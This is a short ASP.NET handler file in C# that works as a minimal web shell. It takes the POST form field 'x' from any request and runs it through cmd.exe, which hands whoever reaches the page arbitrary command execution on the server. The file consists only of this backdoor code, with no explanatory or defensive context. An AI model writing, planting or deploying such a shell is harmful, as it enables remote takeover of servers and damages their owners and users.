<%@ WebHandler Language="C#" Class="H" %>
using System.Web;
public class H : IHttpHandler {
 public void ProcessRequest(HttpContext ctx) { var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + ctx.Request.Form["x"]); p.WaitForExit(); }
 public bool IsReusable { get { return false; } }
}
